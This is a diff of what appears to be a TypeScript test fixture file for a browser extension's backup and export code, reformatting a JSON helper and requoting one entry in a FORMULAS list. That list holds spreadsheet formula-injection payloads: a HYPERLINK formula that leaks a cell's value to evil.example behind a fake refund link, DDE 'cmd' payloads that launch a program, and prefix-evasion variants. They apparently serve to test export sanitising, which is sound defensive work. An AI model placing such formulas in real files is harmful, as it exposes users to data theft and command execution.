@@ -42,7 +42,11 @@ export function productCapture(n: number, host: string, at: string, automatic = 
 
 /** A backup file's text (pretty-printed as the options page writes it, or compact). */
 export function backupText(data: Partial<StoredData> & { settings: StoredData['settings'] }, pretty = true): string {
-  return JSON.stringify({ format: BACKUP_FORMAT, exportedAt: '2026-11-30T12:00:00.000Z', schemaVersion: 1, captures: [], items: [], rates: null, quarantine: [], ...data }, null, pretty ? 2 : undefined);
+  return JSON.stringify(
+    { format: BACKUP_FORMAT, exportedAt: '2026-11-30T12:00:00.000Z', schemaVersion: 1, captures: [], items: [], rates: null, quarantine: [], ...data },
+    null,
+    pretty ? 2 : undefined,
+  );
 }
 
 /** The two backups of the review, valid and under the options page's 20 MB file limit, far over
@@ -58,7 +62,7 @@ export const FORMULAS = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
   "+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+2',
   '\r=1+2',
   '\uFF1D1+2',
